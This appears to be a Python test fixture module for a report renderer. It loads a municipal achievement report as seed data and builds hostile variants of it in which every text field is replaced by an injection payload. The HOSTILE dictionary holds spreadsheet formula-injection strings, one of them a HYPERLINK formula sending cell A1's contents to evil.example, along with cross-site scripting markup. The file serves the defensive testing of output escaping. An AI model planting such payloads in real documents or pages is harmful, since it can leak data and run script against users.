"""Shared test data for the renderer tests: the seed report and hostile variants of it."""

import json
from pathlib import Path

SEED_JSON = Path(__file__).resolve().parents[1] / "fixtures" / "seed" / "h29-shiminseikatsu-achievement.json"

# What an attacker (or an unlucky copy-paste) could put in any text field.
HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "plus": "+1",
    "minus": "-1+2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "markup": "<script>alert(\"x\")</script>\"'><img src=x onerror=alert(1)>&amp;",
}


def load_seed() -> dict:
    return json.loads(SEED_JSON.read_text(encoding="utf-8"))


def seed_target_count(doc: dict) -> int:
    return sum(len(i["targets"]) for i in doc["initiatives"])


def hostile_doc(payload: str) -> dict:
    """The seed with *every* text field replaced by ``payload`` (numbers left alone)."""
    doc = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    doc["municipality"] = payload
    doc["fiscal_year_label"] = payload
    doc["department"] = payload
    doc["director"] = {"title": payload, "name": payload}
    for ini in doc["initiatives"]:
        ini["title"] = payload
        for key in ("sections", "content", "results", "future_direction", "achievement_status"):
            ini[key] = [payload for _ in ini[key]]
        for t in ini["targets"]:
            t["text"] = payload
            t["grade"] = payload
            for q in ("metric", "actual"):
                if t.get(q):
                    t[q] = dict(t[q], unit=payload)
    return doc
